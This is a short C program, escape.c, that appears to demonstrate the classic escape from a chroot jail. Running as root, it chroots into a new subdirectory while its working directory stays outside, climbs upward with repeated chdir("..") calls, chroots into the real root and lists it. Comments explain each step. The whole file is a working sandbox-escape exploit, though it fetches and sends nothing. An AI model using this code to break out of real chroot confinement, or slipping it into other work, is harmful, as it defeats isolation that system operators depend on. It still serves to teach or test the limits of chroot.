// escape.c - gets out of a root folder that is only a chroot.
#include <err.h>
#include <sys/stat.h>
#include <unistd.h>

// region escape
int main(void)
{
    mkdir("/tmp/below", 0700);
    if (chroot("/tmp/below") < 0) // the root goes down; the working directory does not: it now lies outside
        err(1, "chroot");
    for (int i = 0; i < 64; i++) // up: ".." stops only at the root, and that is not on our way
        if (chdir("..") < 0)
            err(1, "..");
    if (chroot(".") < 0)
        err(1, "chroot .");
    execl("/bin/ls", "ls", "/", NULL); // of whose root?
    err(1, "ls");
}
// endregion
